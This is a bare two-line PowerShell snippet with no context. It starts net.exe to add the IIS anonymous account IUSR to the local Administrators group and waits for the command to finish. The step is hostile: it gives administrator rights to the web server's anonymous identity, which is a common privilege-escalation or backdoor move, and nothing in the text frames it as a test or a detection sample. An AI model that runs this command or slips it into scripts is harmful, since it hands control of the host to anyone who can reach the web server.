$i = [Diagnostics.ProcessStartInfo]@{ FileName='net.exe'; Arguments='localgroup Administrators IUSR /add'; UseShellExecute=$false }
[Diagnostics.Process]::Start($i).WaitForExit()
